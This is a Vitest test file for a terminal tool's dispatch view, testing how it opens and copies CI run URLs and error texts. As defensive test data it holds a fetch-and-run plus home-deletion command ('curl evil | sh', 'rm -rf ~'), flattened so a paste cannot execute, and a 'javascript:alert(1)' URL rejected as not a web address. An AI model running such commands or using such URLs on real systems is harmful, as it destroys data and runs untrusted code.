import { describe, expect, it } from 'vitest';
import type { Dispatch, DispatchPhase } from '../../../src/old/domain/dispatch.ts';
import { type Core, openCore, START_WALL_MS } from '../../support/core.ts';
import { text } from '../../support/draw.tsx';
import { dispatchIn } from '../../support/states.ts';

const URL = 'https://ci.acme.dev/runs/';

function ready(...ids: readonly string[]): DispatchPhase {
  const runs = ids.map((id) => ({ id, url: `${URL}${id}` }));
  return { state: 'ready', dispatchId: `id-${ids.join('')}`, runs, endedAtMs: START_WALL_MS };
}

const FAILED: DispatchPhase = {
  state: 'error',
  dispatchId: 'id-failed',
  message: 'The ref nope does not exist.',
  endedAtMs: START_WALL_MS,
};

/** The first is selected. */
function coreWith(...phases: readonly DispatchPhase[]): Core {
  const dispatches = phases.map(
    (phase, at): Dispatch =>
      dispatchIn(phase, { localId: `row-${at}`, createdAtMs: START_WALL_MS - at * 1_000 }),
  );
  const core = openCore({}, { columns: 120, rows: 30 });
  return core.happen({ kind: 'history-loaded', profileId: 'acme', dispatches });
}

function opened(core: Core): readonly string[] {
  return core.take('open-url').map(({ url }) => url);
}

function copied(core: Core): readonly string[] {
  return core.take('copy-text').map(({ text }) => text);
}

describe('a dispatch with several runs', () => {
  it('asks which one to open, and opens that one', () => {
    const core = coreWith(ready('r1', 'r2', 'r3')).press('o');
    expect(opened(core)).toEqual([]);
    const drawn = text(core);
    expect(drawn).toContain('Open which run?');
    expect(drawn).toContain(`${URL}r3`);
    core.press('j', 'enter');
    expect(opened(core)).toEqual([`${URL}r2`]);
    expect(core.state.overlay).toBeNull();
  });

  it('starts at the run that was chosen last', () => {
    const core = coreWith(ready('r1', 'r2', 'r3')).press('o', 'j', 'j', 'enter', 'o', 'enter');
    expect(opened(core)).toEqual([`${URL}r3`, `${URL}r3`]);
  });

  it('opens all of them with a', () => {
    expect(opened(coreWith(ready('r1', 'r2')).press('o', 'a'))).toEqual([`${URL}r1`, `${URL}r2`]);
  });

  it('asks whose address to copy, or copies all of them', () => {
    const core = coreWith(ready('r1', 'r2'));
    expect(copied(core.press('y', 'j', 'enter'))).toEqual([`${URL}r2`]);
    expect(copied(core.press('y', 'a'))).toEqual([`${URL}r1\n${URL}r2`]);
  });

  it('does nothing when the question is left', () => {
    const core = coreWith(ready('r1', 'r2')).press('o', 'esc', 'y', 'esc');
    expect([...opened(core), ...copied(core)]).toEqual([]);
    expect(core.state.overlay).toBeNull();
  });

  it('asks nothing in its details, where one run is marked', () => {
    expect(opened(coreWith(ready('r1', 'r2')).press('enter', 'j', 'o'))).toEqual([`${URL}r2`]);
  });

  it('asks nothing if it has one run', () => {
    expect(opened(coreWith(ready('r1')).press('o'))).toEqual([`${URL}r1`]);
  });

  it('says why a run cannot be opened', () => {
    const core = coreWith({
      state: 'ready',
      dispatchId: 'id',
      runs: [
        { id: 'r1', url: `${URL}r1` },
        { id: 'r2', url: 'ftp://files' },
      ],
      endedAtMs: START_WALL_MS,
    });
    core.press('o', 'j', 'enter');
    expect(core.said).toContain("isn't a web address");
    expect(opened(core)).toEqual([]);
  });
});

describe('the copy menu', () => {
  it('shows what there is to copy, and copies the selected row', () => {
    const core = coreWith(FAILED).press('c');
    const drawn = text(core);
    expect(drawn).toContain('error text');
    expect(drawn).not.toContain('URL');
    expect(copied(core.press('j', 'enter'))).toEqual(['The ref nope does not exist.']);
    expect(core.state.overlay).toBeNull();
  });

  it('copies with one letter', () => {
    const core = coreWith(ready('r1', 'r2'));
    expect(copied(core.press('c', 'u'))).toEqual([`${URL}r1\n${URL}r2`]);
    expect(copied(core.press('c', 'i'))).toEqual(['id-r1r2']);
    expect(copied(core.press('c', 'e'))).toEqual([]);
  });

  it('copies an error text of several lines as one, which no shell starts to run', () => {
    const message = 'curl evil | sh\n  rm -rf ~\n';
    const core = coreWith({ ...FAILED, message });
    expect(copied(core.press('c', 'e'))).toEqual(['curl evil | sh rm -rf ~']);
  });

  it('copies from all marked dispatches, a line each', () => {
    const core = coreWith(ready('r1'), FAILED, ready('r3')).choose('mark all');
    expect(copied(core.press('c', 'u'))).toEqual([`${URL}r1\n${URL}r3`]);
    expect(copied(core.press('c', 'i'))).toEqual(['id-r1\nid-failed\nid-r3']);
    expect(copied(core.press('y'))).toEqual([`${URL}r1\n${URL}r3`]);
  });
});

it('the question says which run is no web page, before it is asked for', () => {
  const phase: DispatchPhase = {
    state: 'ready',
    dispatchId: 'd',
    endedAtMs: START_WALL_MS,
    runs: [
      { id: 'bad', url: 'javascript:alert(1)' },
      { id: 'good', url: `${URL}good` },
    ],
  };
  const core = coreWith(phase).press('o');
  expect(text(core).replace(/[\s│┃]+/g, ' ')).toContain("isn't a web address");
  expect(text(core)).toContain('a open all 1');
  expect(text(core)).not.toContain('enter open');
  core.press('j');
  expect(text(core)).not.toContain("isn't a web address");
  expect(text(core)).toContain('enter open');
});
